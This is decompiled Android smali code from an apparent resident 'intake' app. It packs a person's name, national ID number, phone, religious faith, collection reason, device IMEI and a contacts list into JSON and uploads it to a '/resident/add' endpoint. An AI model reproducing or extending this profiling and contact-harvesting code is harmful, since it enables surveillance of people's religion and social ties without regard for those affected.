.class Lorg/example/intake/IntakeActivity$1;
.super Ljava/lang/Object;
.source "IntakeActivity.java"

# interfaces
.implements Ljava/lang/Runnable;


# annotations
.annotation system Ldalvik/annotation/EnclosingMethod;
    value = Lorg/example/intake/IntakeActivity;->send(Landroid/view/View;)V
.end annotation

.annotation system Ldalvik/annotation/InnerClass;
    accessFlags = 0x0
    name = null
.end annotation


# instance fields
.field final synthetic this$0:Lorg/example/intake/IntakeActivity;

.field final synthetic val$device:Ljava/lang/String;

.field final synthetic val$faith:Ljava/lang/String;

.field final synthetic val$id:Ljava/lang/String;

.field final synthetic val$name:Ljava/lang/String;

.field final synthetic val$phone:Ljava/lang/String;

.field final synthetic val$reason:Ljava/lang/String;


# direct methods
.method constructor <init>(Lorg/example/intake/IntakeActivity;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;)V
    .locals 0
    .annotation system Ldalvik/annotation/Signature;
        value = {
            "()V"
        }
    .end annotation

    .line 52
    iput-object p1, p0, Lorg/example/intake/IntakeActivity$1;->this$0:Lorg/example/intake/IntakeActivity;

    iput-object p2, p0, Lorg/example/intake/IntakeActivity$1;->val$name:Ljava/lang/String;

    iput-object p3, p0, Lorg/example/intake/IntakeActivity$1;->val$id:Ljava/lang/String;

    iput-object p4, p0, Lorg/example/intake/IntakeActivity$1;->val$phone:Ljava/lang/String;

    iput-object p5, p0, Lorg/example/intake/IntakeActivity$1;->val$faith:Ljava/lang/String;

    iput-object p6, p0, Lorg/example/intake/IntakeActivity$1;->val$reason:Ljava/lang/String;

    iput-object p7, p0, Lorg/example/intake/IntakeActivity$1;->val$device:Ljava/lang/String;

    invoke-direct {p0}, Ljava/lang/Object;-><init>()V

    return-void
.end method


# virtual methods
.method public run()V
    .locals 3

    .line 55
    :try_start_0
    new-instance v0, Lorg/json/JSONObject;

    invoke-direct {v0}, Lorg/json/JSONObject;-><init>()V

    .line 56
    const-string v1, "xm"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$name:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 57
    const-string v1, "sfzh"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$id:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 58
    const-string v1, "sjhm"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$phone:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 59
    const-string v1, "zjxy"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$faith:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 60
    const-string v1, "cjyy"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$reason:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 61
    const-string v1, "imei"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->val$device:Ljava/lang/String;

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 62
    const-string v1, "contacts"

    iget-object v2, p0, Lorg/example/intake/IntakeActivity$1;->this$0:Lorg/example/intake/IntakeActivity;

    invoke-static {v2}, Lorg/example/intake/IntakeActivity;->access$000(Lorg/example/intake/IntakeActivity;)Lorg/json/JSONArray;

    move-result-object v2

    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;

    .line 63
    const-string v1, "/resident/add"

    invoke-virtual {v0}, Lorg/json/JSONObject;->toString()Ljava/lang/String;

    move-result-object v0

    invoke-static {v1, v0}, Lorg/example/intake/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I
    :try_end_0
    .catch Ljava/lang/Exception; {:try_start_0 .. :try_end_0} :catch_0

    .line 66
    goto :goto_0

    .line 64
    :catch_0
    move-exception v0

    .line 65
    const-string v1, "intake"

    invoke-static {v1, v0}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/Throwable;)I

    .line 67
    :goto_0
    return-void
.end method
